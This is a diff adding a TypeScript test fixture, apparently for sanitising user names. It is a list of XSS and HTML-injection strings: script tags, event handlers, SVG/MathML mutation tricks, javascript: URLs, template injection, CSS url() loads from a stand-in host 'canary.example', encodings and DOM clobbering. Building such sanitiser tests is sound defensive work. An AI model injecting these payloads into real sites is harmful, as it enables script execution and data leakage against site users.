@@ -1,0 +1,107 @@
+/** Where a payload that gets out sends its word; nothing listens there. */
+export const canaryHost = "canary.example";
+
+const run = "__pwned=1";
+const away = `//${canaryHost}`;
+const backtick = "`";
+
+/** Attempts to make a browser run something, each of another kind; most fit into a name's 100 characters. */
+export const hostileTexts: readonly string[] = [
+  // Script elements, whole, broken, in other cases and encodings.
+  `<script>${run}</script>`,
+  `<script src=${away}/a.js></script>`,
+  `<ScRiPt >${run}</sCrIpT>`,
+  `<script/x>${run}</script/x>`,
+  `</script><script>${run}</script>`,
+  `<scr<script>ipt>${run}</scr</script>ipt>`,
+  `</title></textarea></style><script>${run}</script>`,
+  `"><script>${run}</script>`,
+  `'><script>${run}</script>`,
+  `<script type=module>import"${away}/m.js"</script>`,
+  // Event handlers.
+  `<img src=x onerror=${run}>`,
+  `<img/src/onerror=${run}//`,
+  `<IMG SRC=x OnErRoR="${run}">`,
+  `<img src=${backtick}x${backtick}onerror=${run}>`,
+  `" autofocus onfocus=${run} x="`,
+  `' onmouseover=${run} x='`,
+  `<body onload=${run}>`,
+  `<details open ontoggle=${run}>`,
+  `<input autofocus onfocus=${run}>`,
+  `<video><source onerror=${run}></video>`,
+  `<audio src=x onerror=${run}>`,
+  `<marquee onstart=${run}>`,
+  `<div style="animation:x 1s" onanimationstart=${run}>`,
+  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${run}>`,
+  `<button popovertarget=x>a</button><p popover id=x onbeforetoggle=${run}>`,
+  // SVG, MathML, and text that changes its meaning when it is parsed a second time.
+  `<svg onload=${run}>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${run}"><text y=9>a</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
+  `<math><mi xlink:href="javascript:${run}">a</mi></math>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
+  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
+  // Addresses that are programs.
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}`,
+  `java\tscript:${run}`,
+  `&#106;avascript:${run}`,
+  `<a href="javascript:${run}">a</a>`,
+  `data:text/html,<script>${run}</script>`,
+  `<iframe src="javascript:${run}">`,
+  `<iframe srcdoc="<script>parent.${run}</script>">`,
+  `<object data="data:text/html,<script>${run}</script>">`,
+  `<embed src=${away}/e.swf>`,
+  `<meta http-equiv=refresh content="0;url=${away}/">`,
+  `<base href=${away}/>`,
+  `<link rel=stylesheet href=${away}/a.css>`,
+  `<form action=${away}/><button>a</button></form>`,
+  `vbscript:msgbox(1)`,
+  // Templates.
+  "{{constructor.constructor('__pwned=1')()}}",
+  "${__pwned=1}",
+  "#{__pwned=1} <%= __pwned=1 %>",
+  "[[__pwned=1]] {%__pwned=1%} @(__pwned=1)",
+  "{{$on.constructor('__pwned=1')()}}",
+  `$(\`${run}\`) %7b%7b`,
+  // Style sheets.
+  `<b style="width:expression(${run})">`,
+  `<b style="background:url(${away}/b)">`,
+  `<style>@import '${away}/a.css';*{background:url(${away}/c)}</style>`,
+  `red;background:url(${away}/d);--person:url(${away}/e)`,
+  `}</style><style>*{background:url(${away}/f)}`,
+  `#fff"style="background-image:url(${away}/g)`,
+  // Encodings.
+  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
+  `%3Cscript%3E${run}%3C/script%3E`,
+  `&lt;img src=x onerror=${run}&gt;`,
+  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
+  `＜script＞${run}＜/script＞`,
+  `<\u200bscript>${run}</\u200bscript>`,
+  `<img src=x onerror\u00a0=\u2028${run}>`,
+  `\u2028${run}\u2029//`,
+  `\ufeff<script>${run}</script>`,
+  // Names that would stand in for the page's own objects.
+  "<img name=cookie><form id=location><input name=href>",
+  "<a id=__pwned><a id=__pwned name=x href=x>",
+  "<form name=documentElement><input id=attributes name=body>",
+  "__proto__",
+  "constructor.prototype.onerror",
+  // Comments, sections, processing instructions.
+  `<!--><img src=x onerror=${run}>-->`,
+  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
+  `<![CDATA[<img src=x onerror=${run}>]]>`,
+  `<?xml-stylesheet href="javascript:${run}"?>`,
+  `--!><img src=x onerror=${run}>`,
+  // Direction, length, marks.
+  `\u202e>"1=denwp__"=rorreno x=crs gmi<\u202c`,
+  `\u2067<img src=x onerror=${run}>`,
+  `W${"i\u0301\u0300\u0302\u0304".repeat(18)}<b>`,
+  `${"veryverylongname".repeat(5)}<img src=x>`,
+  "漢".repeat(40).concat(`<svg onload=${run}>`),
+];
